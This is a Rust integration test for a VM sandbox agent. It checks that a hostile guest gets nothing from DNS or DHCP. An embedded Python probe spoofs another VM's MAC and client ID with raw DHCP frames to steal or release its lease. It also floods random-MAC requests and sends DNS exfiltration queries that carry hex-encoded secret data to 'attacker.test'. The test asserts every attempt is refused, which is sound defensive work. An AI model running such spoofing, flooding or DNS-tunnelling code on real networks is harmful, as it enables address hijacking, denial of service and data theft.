//! Attacks: DNS and DHCP from a hostile guest (root in its VM).
//!
//! Two sandboxes A and B of one agent, booted once and shared by every step. The
//! agent's DNS upstream is a DNS server of the test's own internet that logs every
//! query it receives, so "nothing went upstream" is counted, not assumed.
//!
//! - DNS (issue 12, hole 3): sealed A asks for B's host name, the host's name,
//!   `x.attacker.test` and a TXT record of `<data>.attacker.test`: every answer is
//!   REFUSED and the internet's DNS server saw none of them. A name of A's policy
//!   resolves (the control, and proof that the query log counts), but not as TXT. A
//!   name of A's policy that resolves to a private, host-subnet or loopback address
//!   does not open it.
//! - DHCP (hole 4): A sends DHCP with B's MAC in `chaddr` (DISCOVER, REQUEST of B's
//!   address, RELEASE of B's lease), REQUESTs B's address with its own `chaddr` and B's
//!   client identifier, and floods REQUESTs with random `chaddr`s. B keeps its reserved
//!   address and answers; A gets no address but its own; no flood MAC holds a lease.

use std::net::Ipv4Addr;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use fluid_client::Client;
use fluid_client::types::{HostState, WriteFileRequest};
use integration_tests::api::Api;
use integration_tests::guest;
use integration_tests::internet::{HTTP_PORT, Internet};
use integration_tests::stack::{AgentOptions, Stack, StoreKind};
use serde_json::json;

/// A private address of the internet namespace that no agent permits (a second
/// HTTP server listens there).
const LAN: Ipv4Addr = Ipv4Addr::new(10, 99, 71, 3);

/// DNS and DHCP from inside a guest, with raw packets (python3, root).
const PROBE: &str = r#"#!/usr/bin/env python3
import binascii, os, random, socket, struct, sys, time
TYPES = {"A": 1, "TXT": 16, "MX": 15, "ANY": 255, "AAAA": 28}
RCODES = {0: "NOERROR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}

def resolver():
    for line in open("/etc/resolv.conf"):
        p = line.split()
        if len(p) >= 2 and p[0] == "nameserver":
            return p[1]
    return "192.168.122.1"

def skip_name(b, i):
    while True:
        n = b[i]
        if n & 0xC0 == 0xC0:
            return i + 2
        if n == 0:
            return i + 1
        i += n + 1

def dns(name, qtype):
    q = struct.pack("!HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack("!HH", TYPES[qtype], 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, (resolver(), 53))
    b, _ = s.recvfrom(4096)
    rcode = b[3] & 0x0F
    an = struct.unpack("!H", b[6:8])[0]
    i = skip_name(b, 12) + 4
    addrs = []
    for _ in range(an):
        i = skip_name(b, i)
        t, _c, _ttl, rdlen = struct.unpack("!HHIH", b[i:i + 10])
        i += 10
        if t == 1:
            addrs.append(socket.inet_ntoa(b[i:i + 4]))
        i += rdlen
    print("DNS %s %s %s %s" % (qtype, name, RCODES.get(rcode, rcode), ",".join(addrs)))

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff

def mac(m):
    return binascii.unhexlify(m.replace(":", ""))

def bootp(mtype, chaddr, xid, ciaddr="0.0.0.0", req=None, server=None, clid=None):
    b = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, xid, 0, 0x8000,
                    socket.inet_aton(ciaddr), b"\0" * 4, b"\0" * 4, b"\0" * 4,
                    chaddr + b"\0" * 10, b"", b"")
    b += b"\x63\x82\x53\x63" + bytes([53, 1, mtype])
    if clid is not None:
        b += bytes([61, len(clid)]) + clid
    if req:
        b += bytes([50, 4]) + socket.inet_aton(req)
    if server:
        b += bytes([54, 4]) + socket.inet_aton(server)
    b += b"\xff"
    return b + b"\0" * max(0, 300 - len(b))

def frame(src_mac, payload, src_ip="0.0.0.0"):
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randint(0, 65535), 0, 64,
                     17, 0, socket.inet_aton(src_ip), socket.inet_aton("255.255.255.255"))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return b"\xff" * 6 + src_mac + b"\x08\x00" + ip + udp

NAMES = {1: "DISCOVER", 2: "OFFER", 3: "REQUEST", 5: "ACK", 6: "NAK", 7: "RELEASE"}

def exchange(packets, wait=4.0):
    """Sends (label, xid, frame) on eth0 and prints every DHCP reply to one of them."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind(("eth0", 0))
    xids = {}
    for label, xid, f in packets:
        xids[xid] = label
        s.send(f)
    deadline = time.time() + wait
    replies = []
    while time.time() < deadline:
        s.settimeout(max(0.05, deadline - time.time()))
        try:
            f = s.recv(2048)
        except socket.timeout:
            break
        ihl = (f[14] & 0x0F) * 4
        if f[23] != 17:
            continue
        udp = 14 + ihl
        sport, dport = struct.unpack("!HH", f[udp:udp + 4])
        if sport != 67 or dport != 68:
            continue
        b = f[udp + 8:]
        xid = struct.unpack("!I", b[4:8])[0]
        if b[0] != 2 or xid not in xids:
            continue
        yiaddr = socket.inet_ntoa(b[16:20])
        chaddr = ":".join("%02x" % x for x in b[28:34])
        mtype, i = None, 240
        while i < len(b) and b[i] != 255:
            if b[i] == 0:
                i += 1; continue
            if b[i] == 53:
                mtype = b[i + 2]
            i += 2 + b[i + 1]
        replies.append((xids[xid], NAMES.get(mtype, mtype), yiaddr, chaddr))
    for r in replies:
        print("REPLY %s %s yiaddr=%s chaddr=%s" % r)
    return replies

def steal(a_mac, b_mac, b_ip, server):
    A, B = mac(a_mac), mac(b_mac)
    clid_b = b"\x01" + B
    n = random.randint(1, 1 << 30)
    packets = [
        ("discover-as-B", n + 1, frame(A, bootp(1, B, n + 1, clid=clid_b))),
        ("request-B-ip-as-B", n + 2, frame(A, bootp(3, B, n + 2, req=b_ip, server=server, clid=clid_b))),
        ("request-B-ip-with-B-clid", n + 3, frame(A, bootp(3, A, n + 3, req=b_ip, server=server, clid=clid_b))),
        ("request-B-ip-init-reboot", n + 4, frame(A, bootp(3, A, n + 4, req=b_ip))),
        ("release-B-as-B", n + 5, frame(A, bootp(7, B, n + 5, ciaddr=b_ip, server=server, clid=clid_b))),
    ]
    replies = exchange(packets)
    got_b = [r for r in replies if r[1] in ("OFFER", "ACK") and r[2] == b_ip]
    print("STEAL replies=%d offers_or_acks_of_B_ip=%d" % (len(replies), len(got_b)))

def flood(a_mac, count, first, last):
    A = mac(a_mac)
    lo = struct.unpack("!I", socket.inet_aton(first))[0]
    hi = struct.unpack("!I", socket.inet_aton(last))[0]
    packets = []
    n = random.randint(1, 1 << 30)
    for k in range(count):
        chaddr = b"\x02\xde\xad" + os.urandom(3)
        req = socket.inet_ntoa(struct.pack("!I", lo + k % (hi - lo + 1)))
        mtype = 1 if k % 2 == 0 else 3
        packets.append(("flood", n + k, frame(A, bootp(mtype, chaddr, n + k, req=req))))
    replies = exchange(packets)
    got = [r for r in replies if r[1] in ("OFFER", "ACK")]
    print("FLOOD sent=%d offers_or_acks=%d" % (count, len(got)))

mode, args = sys.argv[1], sys.argv[2:]
try:
    if mode == "dns":
        dns(args[0], args[1])
    elif mode == "steal":
        steal(*args)
    elif mode == "flood":
        flood(args[0], int(args[1]), args[2], args[3])
    elif mode == "http":
        import urllib.request
        print("OK", urllib.request.urlopen(args[0], timeout=5).read().decode().strip())
    else:
        print("FAIL unknown mode"); sys.exit(2)
except Exception as e:
    print("FAIL", type(e).__name__, e); sys.exit(1)
"#;

async fn run(c: &Client, id: &str, cmd: &str) -> Result<(i32, String)> {
    guest::run(c, id, cmd, 90).await
}

async fn probe(c: &Client, id: &str, args: &str) -> Result<String> {
    let (code, out) = run(c, id, &format!("/usr/local/bin/dnsdhcp-probe {args}")).await?;
    println!("  [{code}] {args}\n      {}", out.replace('\n', "\n      "));
    Ok(out)
}

/// The rcode and addresses of `dns <name> <type>` from inside `id`.
async fn resolve(c: &Client, id: &str, name: &str, qtype: &str) -> Result<(String, String)> {
    let out = probe(c, id, &format!("dns {name} {qtype}")).await?;
    let line = out
        .lines()
        .find(|l| l.starts_with("DNS "))
        .with_context(|| format!("no DNS answer for {name}: {out}"))?;
    let words: Vec<&str> = line.split_whitespace().collect();
    Ok((
        words.get(3).copied().unwrap_or_default().to_owned(),
        words.get(4).copied().unwrap_or_default().to_owned(),
    ))
}

/// `(mac, ip)` of every current lease in libvirt's status file of virbr0.
fn leases() -> Result<Vec<(String, String)>> {
    let text = std::fs::read_to_string("/var/lib/libvirt/dnsmasq/virbr0.status")
        .context("reading the lease status file")?;
    if text.trim().is_empty() {
        return Ok(Vec::new());
    }
    let v: serde_json::Value = serde_json::from_str(&text)?;
    Ok(v.as_array()
        .map(Vec::as_slice)
        .unwrap_or_default()
        .iter()
        .map(|e| {
            (
                e["mac-address"]
                    .as_str()
                    .unwrap_or_default()
                    .to_ascii_lowercase(),
                e["ip-address"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect())
}

fn network_xml() -> Result<String> {
    let out = Command::new("virsh")
        .args(["-c", "qemu:///system", "net-dumpxml", "default"])
        .output()?;
    ensure!(out.status.success(), "virsh net-dumpxml failed");
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

/// A second HTTP server in the internet namespace, on [`LAN`].
struct LanServer(Child);

impl Drop for LanServer {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn lan_server(inet: &Internet) -> Result<LanServer> {
    let dev = "fodnsdhcp";
    let st = Command::new("ip")
        .args([
            "netns",
            "exec",
            &inet.namespace,
            "ip",
            "addr",
            "add",
            &format!("{LAN}/24"),
            "dev",
            dev,
        ])
        .status()?;
    ensure!(st.success(), "adding {LAN} to the internet namespace");
    let dir = std::env::temp_dir().join("fluid-inet-dnsdhcp-lan");
    std::fs::create_dir_all(&dir)?;
    std::fs::write(dir.join("index.html"), "lan\n")?;
    let child = Command::new("ip")
        .args([
            "netns",
            "exec",
            &inet.namespace,
            "python3",
            "-m",
            "http.server",
        ])
        .arg(HTTP_PORT.to_string())
        .args(["--bind", &LAN.to_string(), "--directory"])
        .arg(&dir)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()?;
    let server = LanServer(child);
    let deadline = Instant::now() + Duration::from_secs(15);
    let addr = std::net::SocketAddr::from((LAN, HTTP_PORT));
    while std::net::TcpStream::connect_timeout(&addr, Duration::from_millis(300)).is_err() {
        ensure!(Instant::now() < deadline, "the LAN server did not come up");
        std::thread::sleep(Duration::from_millis(100));
    }
    Ok(server)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_guest_gets_nothing_from_dns_or_dhcp() -> Result<()> {
    let started = Instant::now();
    let inet = Internet::start_mapped(
        "dnsdhcp",
        71,
        &["allowed.test", "attacker.test"],
        &[
            ("lan.test", LAN),
            ("hostsub.test", Ipv4Addr::new(192, 168, 122, 1)),
            ("loop.test", Ipv4Addr::LOCALHOST),
        ],
    )?;
    let _lan = lan_server(&inet)?;
    // The agent admits answers in the internet's server address only: LAN
    // (10.99.71.3) is a private address no one permitted.
    let mut stack = Stack::start(
        StoreKind::Sqlite,
        vec![
            AgentOptions::new("a")
                .network(&format!("dns_upstream = {:?}", inet.dns))
                .network(&format!(
                    "resolved_private_allow = [\"{}/32\"]",
                    inet.server
                )),
        ],
    )
    .await?;
    stack
        .wait_host("a", HostState::Online, Duration::from_secs(30))
        .await?;
    let admin = stack.client.clone();
    let agent_token = stack.token_cli("dd-bot", "agent", Some("agent-dd"))?;
    let operator_token = stack.token_cli("dd-op", "operator", None)?;
    let agent = stack.client_with(&agent_token)?;
    let api = Api::new(&stack.api_url);

    let ((a, a_ip), (b, b_ip)) = tokio::try_join!(
        guest::create(&agent, "agent-dd", "dd-a"),
        guest::create(&agent, "agent-dd", "dd-b")
    )?;
    println!("sandboxes: A {a} {a_ip}, B {b} {b_ip}");
    tokio::try_join!(
        guest::ready(&admin, &a, Duration::from_secs(180)),
        guest::ready(&admin, &b, Duration::from_secs(180))
    )?;
    println!("booted in {} s", started.elapsed().as_secs());
    admin
        .write_file(
            &a,
            &WriteFileRequest {
                path: "/usr/local/bin/dnsdhcp-probe".into(),
                content: PROBE.into(),
                encoding: None,
                mode: Some("0755".into()),
            },
        )
        .await?;
    let a_mac = guest::must(&admin, &a, "cat /sys/class/net/eth0/address", 20).await?;
    let b_mac = guest::must(&admin, &b, "cat /sys/class/net/eth0/address", 20).await?;
    let b_host = guest::must(&admin, &b, "hostname", 20).await?;
    let host_name = String::from_utf8(Command::new("hostname").output()?.stdout)?
        .trim()
        .to_owned();

    dns_attacks(
        &admin,
        &api,
        &operator_token,
        &inet,
        &a,
        &b_host,
        &host_name,
    )
    .await?;
    dhcp_attacks(&admin, &a, (&a_mac, a_ip), (&b, &b_mac, b_ip)).await?;

    println!("destroy: the static leases go with the sandboxes");
    for id in [&a, &b] {
        admin.destroy_sandbox(id).await?;
    }
    let xml = network_xml()?;
    ensure!(
        !xml.contains(&a_mac) && !xml.contains(&b_mac),
        "static leases left after destroy:\n{xml}"
    );
    println!("done in {} s", started.elapsed().as_secs());
    Ok(())
}

async fn dns_attacks(
    admin: &Client,
    api: &Api,
    operator_token: &str,
    inet: &Internet,
    a: &str,
    b_host: &str,
    host_name: &str,
) -> Result<()> {
    println!("DNS 1. sealed A asks for names outside its (empty) policy");
    let data = "6578666f6f2d7365637265742d646174612d6f75742d6f662d74686973"; // hex of a secret
    let attempts = [
        (b_host.to_owned(), "A"),
        ("dd-b".to_owned(), "A"),
        (host_name.to_owned(), "A"),
        ("x.attacker.test".to_owned(), "A"),
        (format!("{data}.attacker.test"), "TXT"),
        (format!("{data}.attacker.test"), "A"),
        ("allowed.test".to_owned(), "A"),
        ("attacker.test".to_owned(), "ANY"),
    ];
    for (name, qtype) in &attempts {
        let (rcode, addrs) = resolve(admin, a, name, qtype).await?;
        ensure!(
            rcode == "REFUSED" || rcode == "NXDOMAIN",
            "sealed A resolved {name} {qtype}: {rcode} {addrs}"
        );
    }
    let seen = inet.dns_queries();
    println!(
        "  the internet's DNS server saw {} queries: {seen:?}",
        seen.len()
    );
    ensure!(
        seen.is_empty(),
        "queries of a sealed sandbox went upstream: {seen:?}"
    );

    println!("DNS 2. A's policy names allowed.test and three names pointing inward");
    let allow: Vec<serde_json::Value> = ["allowed.test", "lan.test", "hostsub.test", "loop.test"]
        .iter()
        .map(|d| json!({"domain": d, "protocol": "tcp", "port": HTTP_PORT}))
        .collect();
    let (s, v) = api
        .send(
            operator_token,
            reqwest::Method::PUT,
            &format!("/v1/sandboxes/{a}/network"),
            Some(json!({ "allow": allow })),
        )
        .await?;
    ensure!(s == 200, "{v}");
    let (rcode, addrs) = resolve(admin, a, "allowed.test", "A").await?;
    ensure!(
        rcode == "NOERROR" && addrs == inet.server.to_string(),
        "allowed.test: {rcode} {addrs}"
    );
    let out = probe(admin, a, &format!("http http://allowed.test:{HTTP_PORT}/")).await?;
    ensure!(
        out.starts_with("OK"),
        "the control: allowed.test is reachable: {out}"
    );
    let seen = inet.dns_queries();
    ensure!(
        seen.iter().any(|(t, n)| t == "A" && n == "allowed.test"),
        "the query log counts what goes upstream: {seen:?}"
    );
    let before = seen.len();
    let (rcode, _) = resolve(admin, a, "allowed.test", "TXT").await?;
    ensure!(
        rcode == "REFUSED",
        "a TXT query for an allowed name: {rcode}"
    );
    for (name, addr) in [
        ("lan.test", LAN.to_string()),
        ("hostsub.test", "192.168.122.1".to_owned()),
        ("loop.test", "127.0.0.1".to_owned()),
    ] {
        let (rcode, addrs) = resolve(admin, a, name, "A").await?;
        ensure!(
            rcode == "NOERROR" && addrs == addr,
            "{name}: {rcode} {addrs}"
        );
    }
    // The LAN server answers the test itself (so the refusal below is the firewall's).
    ensure!(
        std::net::TcpStream::connect_timeout(
            &std::net::SocketAddr::from((LAN, HTTP_PORT)),
            Duration::from_secs(3)
        )
        .is_ok(),
        "the LAN server is up"
    );
    let out = probe(admin, a, &format!("http http://lan.test:{HTTP_PORT}/")).await?;
    ensure!(
        !out.starts_with("OK"),
        "an answer opened a private address: {out}"
    );
    let (_, v) = api
        .send(
            operator_token,
            reqwest::Method::GET,
            &format!("/v1/sandboxes/{a}/network"),
            None,
        )
        .await?;
    println!("  policy and resolved addresses: {v}");
    let text = v.to_string();
    for inward in [LAN.to_string(), "192.168.122.1".into(), "127.0.0.1".into()] {
        ensure!(
            !text.contains(&format!("\"{inward}\"")),
            "{inward} was admitted into A's allow set: {v}"
        );
    }
    ensure!(
        text.contains(&format!("\"{}\"", inet.server)),
        "allowed.test's address is: {v}"
    );
    let after = inet.dns_queries();
    ensure!(
        !after[before..].iter().any(|(t, _)| t == "TXT"),
        "a TXT query went upstream: {after:?}"
    );
    Ok(())
}

async fn dhcp_attacks(
    admin: &Client,
    a: &str,
    (a_mac, a_ip): (&str, Ipv4Addr),
    (b, b_mac, b_ip): (&str, &str, Ipv4Addr),
) -> Result<()> {
    println!("DHCP 0. the agent reserved both addresses (static leases)");
    let xml = network_xml()?;
    for (m, ip) in [(a_mac, a_ip), (b_mac, b_ip)] {
        ensure!(
            xml.contains(&format!("<host mac='{m}' ip='{ip}'/>")),
            "no static lease {m} {ip} in:\n{xml}"
        );
    }
    // A sandbox restored from a memory template starts its DHCP client when it is
    // handed over: its lease may come a few seconds after its first command.
    let deadline = Instant::now() + Duration::from_secs(60);
    let before = loop {
        let now = leases()?;
        if now.contains(&(b_mac.to_owned(), b_ip.to_string())) {
            break now;
        }
        ensure!(
            Instant::now() < deadline,
            "B holds no lease after 60 s: {now:?}"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    };
    println!("  leases: {before:?}");

    println!("DHCP 1. A asks for B's address with B's chaddr and client id");
    let out = probe(
        admin,
        a,
        &format!("steal {a_mac} {b_mac} {b_ip} 192.168.122.1"),
    )
    .await?;
    let summary = out
        .lines()
        .find(|l| l.starts_with("STEAL"))
        .with_context(|| format!("the steal probe did not finish: {out}"))?;
    ensure!(
        summary.ends_with("offers_or_acks_of_B_ip=0"),
        "A was offered B's address: {out}"
    );
    ensure!(
        !out.lines()
            .any(|l| l.contains("chaddr=") && l.contains(b_mac)),
        "dnsmasq answered a request with B's chaddr: {out}"
    );

    println!("DHCP 2. A floods REQUESTs/DISCOVERs with random chaddrs");
    let out = probe(
        admin,
        a,
        &format!("flood {a_mac} 64 192.168.122.200 192.168.122.250"),
    )
    .await?;
    ensure!(
        out.contains("FLOOD sent=64 offers_or_acks=0"),
        "the pool answered a flood: {out}"
    );

    println!("DHCP 3. afterwards");
    let after = leases()?;
    println!("  leases: {after:?}");
    ensure!(
        after.contains(&(b_mac.to_owned(), b_ip.to_string())),
        "B lost its lease: {after:?}"
    );
    let flooded: Vec<_> = after
        .iter()
        .filter(|(m, _)| m.starts_with("02:de:ad"))
        .collect();
    ensure!(flooded.is_empty(), "flood MACs hold leases: {flooded:?}");
    ensure!(
        !after
            .iter()
            .any(|(m, ip)| *ip == b_ip.to_string() && m != b_mac),
        "B's address is leased to someone else: {after:?}"
    );
    ensure!(
        !after
            .iter()
            .any(|(m, ip)| m == a_mac && *ip != a_ip.to_string()),
        "A got another address: {after:?}"
    );
    let xml = network_xml()?;
    ensure!(
        xml.contains(&format!("<host mac='{b_mac}' ip='{b_ip}'/>")),
        "B's reservation is gone:\n{xml}"
    );
    // B still has its address and answers on it.
    let ip_in_b = guest::must(admin, b, "ip -4 -o addr show eth0", 20).await?;
    ensure!(
        ip_in_b.contains(&format!("{b_ip}/")),
        "B's address: {ip_in_b}"
    );
    let view = admin.get_sandbox(b).await?;
    let seen_ip = view.sandbox.ip_address.clone().unwrap_or_default();
    println!(
        "  B as the controller sees it: {:?} {seen_ip}",
        view.sandbox.state
    );
    ensure!(seen_ip == b_ip.to_string(), "B's address moved: {seen_ip}");
    let a_now = guest::must(admin, a, "ip -4 -o addr show eth0", 20).await?;
    ensure!(a_now.contains(&format!("{a_ip}/")), "A's address: {a_now}");
    Ok(())
}
